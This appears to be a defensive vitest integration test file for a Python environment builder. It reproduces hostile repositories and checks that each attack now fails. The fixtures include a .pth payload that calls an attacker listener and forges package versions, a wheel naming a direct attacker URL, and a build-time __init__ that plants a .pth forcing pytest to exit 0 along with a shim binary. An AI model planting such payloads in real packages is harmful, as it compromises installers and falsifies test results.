// Hostile repositories against the environment builder (issue 27), through the real CLI and engine
// with listeners on 127.0.0.1: a wheelhouse wheel whose .pth phones home and forges versions and whose
// metadata names a direct URL, with the user's index and find-links both carrying credentials; a
// build backend that drops a .pth making pytest pass, then a second checkout at the same path; a
// committed `.piper` symlink. Each attack reproduced, and each now fails to do what it did.
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { DockerEngine } from '../../runtime/engine/docker-engine.js';
import { ENV_LABEL, projectId } from '../../runtime/env/names.js';
import { runCli } from '../helpers/cli.js';
import { NO_PIP, envRows, envScratch, listener } from '../helpers/env-repos.js';
import { buildWheel, serveSimpleIndex } from '../helpers/wheels.js';

const engine = new DockerEngine();
const repos = envScratch('piper-env-hostile-');
afterAll(() => repos.cleanup(engine));

/** A .pth line: Python code at every interpreter start, in the build and in every sandbox. */
function pthCalling(port: number): string {
  const body = [
    'try:',
    `    import urllib.request; urllib.request.urlopen("http://127.0.0.1:${port}/pth", timeout=2)`,
    'except Exception:',
    '    pass',
    'open("/tmp/piper-pth-ran", "w").write("x")',
    'import importlib.metadata as m; m.version = lambda name: "999"',
  ].join('\n');
  return `import sys; exec(${JSON.stringify(body)})\n`;
}

describe('a repository wheel with a .pth and a direct URL, the user index and find-links with credentials', () => {
  it('installs it offline: no request reaches the attacker, no credential is recorded, versions are real', async () => {
    const attacker = await listener();
    const links = await listener();
    const shout = buildWheel(join(repos.scratch), 'shout', '2.1', {
      'shout.py': 'def shout(s):\n    return s.upper()\n',
    });
    const indexSecret = 'S3cret-index-token-A';
    const linksSecret = 'S3cret-links-token-B';
    const index = await serveSimpleIndex([shout], { user: 'ci', password: indexSecret });
    const repo = repos.newRepo('hostile-wheels', {
      'pyproject.toml':
        '[project]\nname = "hostile-app"\nversion = "1.0"\ndependencies = ["greet==1.0", "shout>=2"]\n\n[tool.setuptools]\npy-modules = ["app"]\n',
      'app.py':
        'from greet import greet\nfrom shout import shout\n\ndef hello(n):\n    return shout(greet(n))\n',
      'tests/test_app.py':
        'import importlib.metadata\nfrom app import hello\n\ndef test_hello():\n    assert hello("ada") == "HELLO, ADA"\n',
    });
    mkdirSync(join(repo, '.piper'), { recursive: true });
    writeFileSync(join(repo, '.piper', 'sandbox.toml'), 'find_links = ["wheelhouse"]\n');
    mkdirSync(join(repo, 'wheelhouse'));
    buildWheel(
      join(repo, 'wheelhouse'),
      'greet',
      '1.0',
      {
        'greet.py': 'def greet(n):\n    return f"hello, {n}"\n',
        'greet_hook.pth': pthCalling(attacker.port),
      },
      [`evil @ http://127.0.0.1:${attacker.port}/evil-1.0.tar.gz`],
    );
    try {
      const r = await runCli(['run-test', 'tests/', '--repo', repo, '--json'], {
        env: {
          ...NO_PIP,
          PIP_INDEX_URL: index.url,
          PIP_FIND_LINKS: `http://ci:${linksSecret}@127.0.0.1:${links.port}/links/`,
        },
      });
      expect(r.code, r.stderr.slice(-3000)).toBe(0);
      // Nothing of the repository ran where there was a network: not its .pth, not its URL.
      expect(attacker.requests).toEqual([]);
      // The repository's wheel is never asked of the index (no substitution by a public package).
      expect(index.requests.some((q) => q.path.includes('greet'))).toBe(false);
      expect(index.requests.some((q) => q.path.startsWith('/files/shout') && q.authorized)).toBe(true);
      const [row] = envRows(repo);
      expect(row!.status).toBe('built');
      const steps = JSON.parse(row!.steps) as Array<{ name: string; network: string }>;
      expect(steps.find((s) => s.name === 'pip')!.network).not.toBe('none');
      expect(steps.find((s) => s.name === 'wheelhouse')!.network).toBe('none');
      expect(steps.find((s) => s.name === 'project')!.network).toBe('none');
      // Versions from the metadata files, not from a Python the .pth patched.
      const resolved = JSON.parse(row!.resolved) as Array<{ name: string; version: string }>;
      expect(resolved).toContainEqual(expect.objectContaining({ name: 'greet', version: '1.0' }));
      expect(resolved).toContainEqual(expect.objectContaining({ name: 'hostile-app', version: '1.0' }));
      expect(resolved.some((p) => p.version === '999')).toBe(false);
      // No credential anywhere: the ledger file, the export, the output, the image's config and layers.
      const runs = JSON.parse((await runCli(['ledger', 'runs', '--json', '--repo', repo])).stdout) as Array<{
        id: string;
      }>;
      const exported = await runCli(['ledger', 'export', runs[0]!.id, '--repo', repo]);
      expect(exported.code, exported.stderr).toBe(0);
      const ledgerBytes = readFileSync(join(repo, '.piper', 'ledger.db'));
      const saved = execFileSync('sh', ['-c', `docker save ${row!.image} | strings`], {
        encoding: 'utf8',
        maxBuffer: 1 << 30,
      });
      const inspect = execFileSync('docker', ['image', 'inspect', row!.image], { encoding: 'utf8' });
      for (const secret of [indexSecret, linksSecret]) {
        expect(ledgerBytes.includes(secret), secret).toBe(false);
        expect(`${exported.stdout}${exported.stderr}`).not.toContain(secret);
        expect(`${r.stdout}${r.stderr}`).not.toContain(secret);
        expect(saved).not.toContain(secret);
        expect(inspect).not.toContain(secret);
      }
      expect(JSON.stringify(steps)).toContain('***@127.0.0.1');
    } finally {
      await Promise.all([attacker.close(), links.close(), index.close()]);
    }
  });
});

describe('a build backend that leaves code in the venv, and the next checkout at the same path', () => {
  const buildFiles = {
    'pyproject.toml':
      '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "carrier"\ndynamic = ["version"]\n\n[tool.setuptools.dynamic]\nversion = {attr = "carrier.__version__"}\n',
    'tests/test_carrier.py': 'import carrier\n\ndef test_fails():\n    assert carrier.answer() == 41\n',
  };
  // Imported by setuptools for the version (it is computed), as root, in the project phase.
  const hostileInit = [
    'import os, sys, sysconfig',
    'if "pytest" not in " ".join(sys.argv):',
    '    site = sysconfig.get_paths()["purelib"]',
    '    with open(os.path.join(site, "zz_always_pass.pth"), "w") as f:',
    "        f.write(\"import os, sys; os._exit(0) if 'pytest' in ' '.join(sys.argv) else None\\n\")",
    '    open("/usr/local/bin/pytest-shim", "w").write("#!/bin/sh\\nexit 0\\n")',
    // Computed, so setuptools cannot read it statically and imports the package.
    '__version__ = ".".join(["1", "0"])',
    'def answer():',
    '    return 42',
  ].join('\n');

  it('fails the hostile build, naming what it left; the next checkout builds clean and its failing test fails', async () => {
    const repo = repos.newRepo('carrier', { ...buildFiles, 'carrier/__init__.py': `${hostileInit}\n` });
    const hostile = await runCli(['run-test', 'tests/', '--repo', repo], { env: NO_PIP });
    expect(hostile.code, hostile.stderr.slice(-2000)).toBe(2);
    expect(hostile.stderr).toContain('outside what an environment may hold');
    expect(hostile.stderr).toMatch(/zz_always_pass\.pth: line .* is neither a path in \/work/);
    expect(hostile.stderr).toContain('added /usr/local/bin/pytest-shim');
    expect(envRows(repo).map((row) => row.status)).toEqual(['failed']);
    expect(await engine.listImages([`${ENV_LABEL.project}=${projectId(repo)}`])).toEqual([]);

    // Another checkout at the same path, the same build files, the project's own code.
    for (const entry of readdirSync(repo))
      if (entry !== '.git' && entry !== '.piper') rmSync(join(repo, entry), { recursive: true });
    for (const [path, text] of Object.entries(buildFiles)) {
      mkdirSync(join(repo, path, '..'), { recursive: true });
      writeFileSync(join(repo, path), text);
    }
    mkdirSync(join(repo, 'carrier'));
    writeFileSync(
      join(repo, 'carrier', '__init__.py'),
      '__version__ = "1.0"\n\ndef answer():\n    return 42\n',
    );
    const r = await runCli(['run-test', 'tests/', '--repo', repo, '--json'], { env: NO_PIP });
    expect(r.code, r.stderr.slice(-2000)).toBe(4);
    const result = JSON.parse(r.stdout) as { passed: boolean; counts: { passed: number; failed: number } };
    expect(result.passed).toBe(false);
    expect(result.counts).toMatchObject({ passed: 0, failed: 1 });
    expect(envRows(repo).map((row) => row.status)).toEqual(['failed', 'built']);
  });
});

describe('a committed .piper symlink', () => {
  it('is refused before anything is written, with the fix', async () => {
    const repo = repos.newRepo('piper-link', { 'tests/test_x.py': 'def test_x():\n    pass\n' });
    const elsewhere = join(repos.scratch, 'elsewhere');
    mkdirSync(elsewhere);
    symlinkSync(elsewhere, join(repo, '.piper'));
    const r = await runCli(['run-test', 'tests/', '--repo', repo], { env: NO_PIP });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('is a symbolic link');
    expect(r.stderr).toContain('rm ');
    expect(readdirSync(elsewhere)).toEqual([]);
  });
});
